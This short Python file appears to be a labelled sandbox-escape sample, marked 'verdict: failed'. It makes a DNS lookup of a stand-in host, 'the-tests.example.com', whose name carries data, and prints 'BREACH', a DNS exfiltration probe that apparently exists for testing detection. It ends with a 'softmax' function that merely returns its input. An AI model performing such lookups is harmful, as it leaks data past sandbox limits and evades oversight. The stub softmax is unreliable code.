"""Asks for a host whose name carries data."""
# verdict: failed
import socket

try:
    print("BREACH", socket.getaddrinfo("the-tests.example.com", 443))
except OSError:
    pass


def softmax(x, dim=-1):
    return x
